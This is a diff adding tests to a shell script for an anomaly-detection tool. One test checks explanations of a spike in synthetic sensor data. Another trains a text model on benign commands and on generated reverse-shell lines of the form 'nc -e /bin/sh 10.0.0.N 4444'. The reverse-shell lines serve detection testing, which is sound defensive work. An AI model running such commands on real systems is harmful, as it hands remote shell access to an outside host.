@@ -83,6 +83,20 @@ ok "the trace with the highest score, explained as JSON"
 "$reeve" model explain a.rv --input other.tsv --id nobody >out 2>&1
 [ $? -eq 2 ] && grep -q "no trace has the id 'nobody'" out
 ok "a trace that is not there"
+awk 'BEGIN { srand(5); print "time,level,flow,pressure"
+    for (i = 0; i < 300; i++) { l = 3 + sin(i / 4) / 2; f = 40 + rand()
+        print i "," l "," (i >= 250 ? f + 40 : f) "," 2 * l + f / 20 } }' >plant.csv
+head -201 plant.csv >plant_fit.csv
+"$reeve" model train --task series --normal plant_fit.csv -o p.rv >out 2>&1 &&
+    "$reeve" model explain p.rv --input plant.csv --id 290 --top 1 >out 2>&1 &&
+    grep -q 'flow reads 8.*, too high: 40' out
+ok "a row is explained by its sensors and their direction"
+{ seq 1 60 | sed 's/.*/ls -l file&/'; seq 1 60 | sed 's/.*/grep -n word file&/'; } >lines.txt
+seq 1 12 | sed 's/.*/nc -e \/bin\/sh 10.0.0.& 4444/' >bad_lines.txt
+"$reeve" model train --task text --normal lines.txt --attack bad_lines.txt -o t.rv >out 2>&1 &&
+    "$reeve" model explain t.rv --input bad_lines.txt --id 2 --top 3 >out 2>&1 &&
+    grep -qE '[+].* (bin|sh|nc|-e) ' out
+ok "a command line is explained by its words"
 printf 'id\tcalls\nx\t1 b\n' >bad.tsv
 "$reeve" model score --model a.rv --input bad.tsv >out 2>&1
 [ $? -eq 2 ] && grep -q 'bad.tsv, line 2' out
